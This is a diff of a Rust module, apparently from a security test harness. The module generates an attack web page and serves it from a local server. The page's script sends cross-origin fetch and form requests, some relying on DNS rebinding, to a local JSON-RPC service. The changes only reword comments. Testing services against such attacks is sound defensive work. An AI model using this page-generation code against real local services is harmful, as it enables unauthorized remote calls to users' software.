@@ -1,11 +1,11 @@
-//! The page that attacks, and the server that it comes from.
+//! The malicious page and its server.
 
 use std::io::Read as _;
 use std::net::TcpListener;
 
 use crate::proxy::send_page;
 
-/// The kinds of requests that it sends. The last three come from a page whose own name was made to point to the service.
+/// The kinds of requests. The last three come from a page whose own name was rebound to the service.
 pub const KINDS: &[&str] = &[
     "fetch text",
     "fetch JSON",
@@ -26,10 +26,10 @@ pub const KINDS: &[&str] = &[
     "rebound: frame",
 ];
 
-/// What is asked of a service.
+/// The requests to a service.
 #[derive(Clone, Copy)]
 pub struct Target {
-    /// A path that is asked for with GET.
+    /// A path, requested with GET.
     pub path: &'static str,
     /// A method of the JSON-RPC interface.
     pub method: &'static str,
@@ -43,13 +43,13 @@ impl Target {
     }
 }
 
-/// The page, for the ports that each kind of request goes to.
+/// The page, for the ports of each kind of request.
 pub fn attack(ports: &[(&str, [u16; 2])], targets: &[Target; 2]) -> String {
     let mut script = String::from(FUNCTIONS);
     for (kind, ports) in ports {
         for (port, target) in ports.iter().zip(targets) {
             let (path, body) = (target.path, target.body());
-            // A form's text is NAME=VALUE: the equals sign goes into a member that is not read.
+            // The body of a form is NAME=VALUE: the equals sign goes into a member that is not read.
             let start = body.strip_suffix('}').unwrap();
             let statement = match *kind {
                 "fetch text" => "fetch(at + '/json_rpc', {method: 'POST', body})".to_owned(),
@@ -85,7 +85,7 @@ pub fn attack(ports: &[(&str, [u16; 2])], targets: &[Target; 2]) -> String {
     format!("<!DOCTYPE html><title>page</title><body><script>{script}</script></body>")
 }
 
-/// The page of a name that points to the service from then on: to the browser, both have the same origin.
+/// The page of a name that points to the service afterwards: for the browser, both have the same origin.
 pub fn rebound(kind: &str, target: &Target) -> String {
     let statement = match kind {
         "rebound: fetch" => "fetch('/json_rpc', {method: 'POST', body})".to_owned(),
@@ -127,7 +127,7 @@ pub struct Site {
 }
 
 impl Site {
-    /// Starts it.
+    /// Starts the server.
     pub fn start(page: String) -> Self {
         let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
         let port = listener.local_addr().unwrap().port();
